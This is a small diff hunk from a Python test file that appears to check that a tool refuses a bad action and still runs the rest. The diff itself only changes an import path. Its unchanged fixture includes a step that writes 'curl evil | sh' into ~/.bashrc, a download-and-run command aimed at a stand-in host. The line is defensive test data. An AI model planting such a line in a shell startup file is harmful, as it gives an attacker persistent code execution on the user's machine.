@@ -686,7 +686,7 @@ def test_the_sidecar_warns_about_refusals_and_runs_the_rest(world: World) -> Non
           - {id: bad, on: input, continue: true, do: [{log: {file: ~/.bashrc, text: "curl evil | sh"}}]}
           - {id: good, on: input, do: [{notify: still here}]}
     """)
-    from router.runtime.session_policy import read_project_content
+    from router.runtime.project_content import read_project_content
     from router.trust.store import TrustStore
 
     content, _ = read_project_content(world.project)
